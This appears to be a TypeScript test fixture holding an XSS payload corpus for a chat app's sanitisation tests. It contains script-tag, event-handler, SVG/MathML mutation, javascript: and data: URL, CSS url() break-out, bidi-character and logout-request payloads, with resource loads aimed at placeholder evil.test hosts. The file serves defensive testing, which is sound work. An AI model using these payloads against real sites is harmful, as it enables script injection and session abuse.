/**
 * The XSS corpus of issue 5: hostile texts sent through the chat room and private messages, and
 * hostile name tag stylings. Every payload that would load something points at a host of its own
 * (`xss-<n>.evil.test`), so a leak names the payload that caused it; every payload that would run
 * script tries to set `window.__xss` or open a dialog, which the test's traps report.
 *
 * Plain http(s) image and GIF links are not here: the spec turns them into images on purpose
 * (chat spec 5, community spec 5). The test file covers them apart, under the app's CSP.
 */

export const PAYLOAD_DOMAIN = "evil.test";

/** The host of payload `n`: `xss-07.evil.test`. */
const payloadHost = (n: number) => `xss-${String(n).padStart(2, "0")}.${PAYLOAD_DOMAIN}`;

export interface TextPayload {
  /** 1-based, also in the payload's host. */
  n: number;
  name: string;
  text: string;
  /** The host the payload would load from, when it tries to load something. */
  host: string;
}

/** Makes a payload from its own host and the station's own origin (`http://127.0.0.1:4321`). */
type Make = (host: string, app: string) => string;

const JS = "window.__xss=1";
const ZWSP = "\u200B";
const ZWJ = "\u200D";
const RLO = "\u202E";
const PDF = "\u202C";
const LRI = "\u2066";
const PDI = "\u2069";

const TEXTS: [name: string, make: Make][] = [
  // Script tags
  ["script tag", () => `<script>${JS}</script>`],
  ["external script", (h) => `<script src="http://${h}/x.js"></script>`],
  ["script in text", () => `hello <script>alert(document.cookie)</script> world`],
  ["split script tag", () => `<scr<script>ipt>${JS}</scr</script>ipt>`],
  ["doubled brackets", () => `<<script>script>${JS}<</script>/script>`],
  ["upper-case script", () => `<SCRIPT>${JS}</SCRIPT>`],
  ["CDATA script", () => `<![CDATA[<script>${JS}</script>]]>`],
  ["comment-hidden img", () => `<!--<img src=x onerror="${JS}">-->`],
  // Event handlers
  ["img onerror", () => `<img src=x onerror="${JS}">`],
  ["img onerror, slashes", () => `<img/src=x/onerror=${JS}>`],
  ["img onerror, unclosed", () => `<img src=x onerror=${JS} `],
  ["img, multi-line tag", () => `<img src="x\n" onerror="${JS}">`],
  ["body onload", () => `<body onload=${JS}>`],
  ["details ontoggle", () => `<details open ontoggle=${JS}>open</details>`],
  ["input onfocus", () => `<input autofocus onfocus=${JS}>`],
  ["video source onerror", () => `<video><source onerror="${JS}"></video>`],
  ["marquee onstart", () => `<marquee onstart=${JS}>news</marquee>`],
  ["custom tag onclick", () => `<x-tag onclick=${JS}>click</x-tag>`],
  ["attribute break-out", () => `" onmouseover="${JS}" x="`],
  ["quote break-out", () => `'><script>${JS}</script>`],
  ["textarea break-out", () => `</textarea><script>${JS}</script>`],
  ["title break-out", () => `</title><img src=x onerror=${JS}>`],
  // SVG and MathML
  ["svg onload", () => `<svg onload="${JS}">`],
  ["svg script", () => `<svg><script>${JS}</script></svg>`],
  ["svg image", (h) => `<svg><image href="http://${h}/i.svg"/></svg>`],
  ["svg animate onbegin", () => `<svg><animate onbegin=${JS} attributeName=x dur=1s>`],
  [
    "svg xlink javascript",
    () => `<svg><a xlink:href="javascript:${JS}"><text x=20 y=20>XSS</text></a></svg>`,
  ],
  [
    "mathml mutation",
    () => `<math><mtext><table><mglyph><style><img src=x onerror=${JS}></style></mglyph>`,
  ],
  ["noscript mutation", () => `<noscript><p title="</noscript><img src=x onerror=${JS}>">`],
  // javascript: and data: links
  ["iframe javascript", () => `<iframe src="javascript:${JS}"></iframe>`],
  ["iframe foreign", (h) => `<iframe src="http://${h}/"></iframe>`],
  ["iframe srcdoc", () => `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`],
  ["a javascript", () => `<a href="javascript:${JS}">click me</a>`],
  ["bare javascript URL", () => `javascript:${JS}`],
  ["javascript with newline", () => `javascript://%0A${JS}`],
  ["mixed-case javascript", () => `<a href="jAvAsCrIpT&colon;${JS}">x</a>`],
  ["entity javascript", () => `<a href="&#106;avascript:${JS}">entity</a>`],
  ["a data html", () => `<a href="data:text/html,<script>alert(1)</script>">data link</a>`],
  ["bare data URL", () => `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`],
  ["markdown javascript link", () => `[click me](javascript:${JS})`],
  ["markdown image", (h) => `![pic](//${h}/m.png)`],
  ["markdown data link", () => `[x](data:text/html,<script>alert(1)</script>)`],
  // Loading from elsewhere
  ["img foreign", (h) => `<img src="http://${h}/p.png">`],
  ["img srcset", (h) => `<img srcset="http://${h}/s.png 1x">`],
  ["protocol-relative a", (h) => `<a href=//${h}/>go</a>`],
  ["meta refresh", (h) => `<meta http-equiv="refresh" content="0;url=http://${h}/">`],
  ["link stylesheet", (h) => `<link rel=stylesheet href=//${h}/s.css>`],
  ["link prefetch", (h) => `<link rel=prefetch href=//${h}/p>`],
  ["object data", (h) => `<object data="http://${h}/o.swf"></object>`],
  ["embed", (h) => `<embed src="http://${h}/e.swf">`],
  ["base href", (h) => `<base href="http://${h}/">`],
  ["form action", (h) => `<form action="http://${h}/"><button>Go</button></form>`],
  ["template", () => `<template><img src=x onerror=${JS}></template>`],
  [
    "style import",
    (h) => `<style>@import url(http://${h}/s.css);body{background:url(//${h}/b)}</style>`,
  ],
  ["inline style url", (h) => `<div style="background:url(http://${h}/d)">styled</div>`],
  ["CSS text", (h) => `@import url(//${h}/i.css); background: url(//${h}/b)`],
  ["link with handler tail", (h) => `https://${h}/page" onmouseover="${JS}`],
  ["link with tag tail", (h) => `http://${h}/a<img src=x onerror=${JS}>`],
  // Colour tags
  ["colour attribute break-out", () => `[color=#f00" onmouseover="${JS}]hover me[/color]`],
  ["colour javascript", () => `[color=javascript:${JS}]js colour[/color]`],
  ["colour CSS injection", (h) => `[color=red;background:url(//${h}/c)]css[/color]`],
  ["colour expression", () => `[color=expression(alert(1))]old IE[/color]`],
  ["colour with img inside", () => `[color=#abc]<img src=x onerror=${JS}>[/color]`],
  ["colour unclosed", () => `[color=#ff0000]never closed <b>bold</b>`],
  ["colour close only", () => `[/color][/color]<script>${JS}</script>`],
  ["colour too long hex", () => `[color=#1234567890]long hex[/color]`],
  ["colour nested deep", () => `${"[color=#0f0]".repeat(30)}deep${"[/color]".repeat(30)}`],
  ["colour flood", () => `${"[color=#f0f]x[/color] ".repeat(70)}`],
  // Encodings, invisible and bidirectional characters
  ["entity-encoded tag", () => `&lt;script&gt;${JS}&lt;/script&gt;`],
  ["numeric entity tag", () => `&#60;img src=x onerror=${JS}&#62;`],
  ["percent-encoded tag", () => `%3Cscript%3E${JS}%3C/script%3E`],
  ["JS-escaped tag", () => `\\u003cscript\\u003e${JS}\\u003c/script\\u003e`],
  ["fullwidth brackets", () => `＜script＞${JS}＜/script＞`],
  ["zero-width in tag", () => `<${ZWSP}script>${JS}</${ZWSP}script>`],
  ["zero-width joiner in img", () => `<${ZWJ}img src=x onerror=${JS}>`],
  ["bidi-wrapped img", () => `${RLO}<img src=x onerror=${JS}>${PDF}`],
  ["bidi isolate tag", () => `${LRI}<svg onload=${JS}>${PDI} safe text`],
  // Template and other injections
  ["template expression", () => `{{constructor.constructor('${JS}')()}}`],
  ["JS template literal", () => `\${${JS}}`],
  ["long img", () => `<img src=x onerror=${JS} ${"a".repeat(1500)}>`],
  // The station's own API as a pasted image: a GET there runs with the viewer's session.
  ["own API as image, query", (_h, app) => `${app}/api/auth/logout?x=.png`],
  ["own API as image, fragment", (_h, app) => `see ${app}/api/auth/logout#.png`],
  ["own API as image, dot segments", (_h, app) => `${app}/uploads/../api/auth/logout?.png`],
  ["own API as image, escaped", (_h, app) => `${app}/%61pi/auth/logout?.gif`],
];

const textCorpus = (app: string): TextPayload[] =>
  TEXTS.map(([name, make], i) => {
    const host = payloadHost(i + 1);
    return { n: i + 1, name, text: make(host, app), host };
  });

/**
 * Private-message bodies aimed at the inbox's own rule that shows a message which is a GIF link as
 * an image (community spec 5): addresses that look like the station's own path but lead elsewhere
 * or to an API call.
 */
const GIF_LINKS: [name: string, make: Make][] = [
  ["backslash host GIF", (h) => `/\\${h}/a.gif`],
  ["logout GIF", () => "/api/auth/logout;.gif"],
  ["logout GIF, own origin", (_h, app) => `${app}/api/auth/logout;.gif`],
  ["logout GIF, dot segment", () => "/uploads/../api/auth/logout;x.gif"],
  ["logout GIF, escaped dots", () => "/uploads/%2e%2e/api/auth/logout;x.gif"],
];

const gifLinkCorpus = (app: string): TextPayload[] =>
  GIF_LINKS.map(([name, make], i) => {
    const n = TEXTS.length + i + 1;
    const host = payloadHost(n);
    return { n, name, text: make(host, app), host };
  });

/** Chat messages of the media types, whose text is an address: the room accepts only its own. */
interface MediaPayload extends TextPayload {
  type: "gif" | "bvgif" | "image";
}

const mediaCorpus = (app: string): MediaPayload[] =>
  (
    [
      ["GIF from a foreign host", "gif", (h: string) => `https://${h}/a.gif`],
      ["GIF javascript", "gif", () => `javascript:${JS}//media.giphy.com/a.gif`],
      ["GIF look-alike host", "gif", (h: string) => `https://media.giphy.com.${h}/a.gif`],
      ["GIF user-info host", "gif", (h: string) => `https://media.giphy.com@${h}/a.gif`],
      ["library GIF backslash host", "bvgif", (h: string) => `/\\${h}/b.gif`],
      ["image from a foreign host", "image", (h: string) => `https://${h}/i.png`],
      ["image API path", "image", () => "/uploads/../api/auth/logout"],
      ["GIF from the own API", "gif", (_h: string, a: string) => `${a}/api/auth/logout?.gif`],
    ] as const
  ).map(([name, type, make], i) => {
    const n = TEXTS.length + GIF_LINKS.length + i + 1;
    const host = payloadHost(n);
    return { n, name, type, text: make(host, app), host };
  });

interface NameTagPayload {
  n: number;
  name: string;
  /** The `nameTagStyling` sent to POST /api/auth/namTagStyling. */
  styling: unknown;
  host: string;
}

type MakeTag = (host: string, app: string) => unknown;

const NAME_TAGS: [name: string, make: MakeTag][] = [
  ["javascript image", () => ({ backgroundType: "image", backgroundImage: `javascript:${JS}` })],
  [
    "data SVG image",
    () => ({
      backgroundType: "image",
      backgroundImage: `data:image/svg+xml,<svg onload="${JS}"/>`,
    }),
  ],
  ["http image", (h) => ({ backgroundType: "image", backgroundImage: `http://${h}/n.png` })],
  [
    "protocol-relative image",
    (h) => ({ backgroundType: "image", backgroundImage: `//${h}/n.png` }),
  ],
  [
    "url() break-out, double quote",
    (h) => ({
      backgroundType: "image",
      backgroundImage: `https://a.example/x.png");background:url("http://${h}/q`,
    }),
  ],
  [
    "url() break-out, parenthesis",
    (h) => ({ backgroundType: "image", backgroundImage: `https://a.example/x.png),url(//${h}/p` }),
  ],
  [
    "url() break-out, single quote",
    (h) => ({ backgroundType: "image", backgroundImage: `https://a.example/x.png';x:url('//${h}` }),
  ],
  [
    "url() break-out, backslash",
    (h) => ({ backgroundType: "image", backgroundImage: `https://a.example/\\"),url(//${h}/b` }),
  ],
  [
    "image with a space",
    (h) => ({ backgroundType: "image", backgroundImage: `https://a.example/a b;url(//${h})` }),
  ],
  [
    "CSS expression image",
    () => ({ backgroundType: "image", backgroundImage: `expression(${JS})` }),
  ],
  [
    "uploads path leaving uploads",
    () => ({ backgroundType: "image", backgroundImage: "/uploads/../api/auth/logout" }),
  ],
  [
    "uploads path, dot segments",
    () => ({ backgroundType: "image", backgroundImage: "/uploads/./../../api/auth/logout" }),
  ],
  [
    "own API over https",
    (_h, app) => ({
      backgroundType: "image",
      backgroundImage: `https://${new URL(app).host}/api/auth/logout`,
    }),
  ],
  [
    "uploads path to another host",
    (h) => ({ backgroundType: "image", backgroundImage: `/uploads/..//\\${h}/x.png` }),
  ],
  [
    "too long image URL",
    (h) => ({ backgroundType: "image", backgroundImage: `https://${h}/${"a".repeat(200)}.png` }),
  ],
  ["text colour CSS", (h) => ({ textColor: `#fff;background:url(//${h}/t)` })],
  ["text colour expression", () => ({ textColor: `expression(${JS})` })],
  ["text colour break-out", () => ({ textColor: `#000" onmouseover="${JS}` })],
  [
    "background colour url()",
    (h) => ({ backgroundType: "color", backgroundColor: `url(http://${h}/c)` }),
  ],
  [
    "gradient colour break-out",
    (h) => ({
      backgroundType: "gradient",
      gradient: { colors: ["#fff", `#000), url(//${h}/g`], angle: 45 },
    }),
  ],
  [
    "gradient angle as CSS",
    (h) => ({
      backgroundType: "gradient",
      gradient: { colors: ["#fff", "#000"], angle: `45deg, url(//${h}/a)` },
    }),
  ],
  [
    "gradient extra field",
    (h) => ({
      backgroundType: "gradient",
      gradient: { colors: ["#fff", "#000"], angle: 45, image: `url(//${h}/e)` },
    }),
  ],
  ["background type as CSS", (h) => ({ backgroundType: `url(//${h}/t)` })],
  ["animation as CSS", (h) => ({ profileAnimation: `spin;background:url(//${h}/s)` })],
  ["extra style field", (h) => ({ textColor: "#fff", style: `background:url(//${h}/x)` })],
  ["extra handler field", () => ({ textColor: "#fff", onmouseover: JS })],
  ["styling as CSS text", (h) => `color:red;background:url(//${h}/s)`],
  ["styling as a list", (h) => [{ backgroundImage: `//${h}/l.png` }]],
];

const nameTagCorpus = (app: string): NameTagPayload[] =>
  NAME_TAGS.map(([name, make], i) => {
    const n = TEXTS.length + GIF_LINKS.length + mediaCorpus(app).length + i + 1;
    const host = payloadHost(n);
    return { n, name, styling: make(host, app), host };
  });

/** The whole corpus for a station at `app` (its origin): some payloads aim at its own API. */
export function xssCorpus(app: string) {
  return {
    /** Texts for the chat room and private messages. */
    texts: textCorpus(app),
    /** Private-message bodies against the inbox's GIF link rule. */
    gifLinks: gifLinkCorpus(app),
    /** Chat messages of the media types. */
    media: mediaCorpus(app),
    /** Name tag stylings, each to be refused. */
    nameTags: nameTagCorpus(app),
  };
}

/** Name tags the schema allows, to be shown in the room: colours, a gradient, an own upload. */
export const ALLOWED_NAME_TAGS = {
  gradient: {
    textColor: "#ffffff",
    backgroundType: "gradient",
    gradient: { colors: ["#ff0080", "#7928ca", "#2afadf"], angle: 135 },
    profileAnimation: "pulse",
  },
  upload: {
    textColor: "#ffee00",
    backgroundType: "image",
    backgroundImage: "/uploads/name-tags/xss-allowed.png",
    profileAnimation: "none",
  },
} as const;
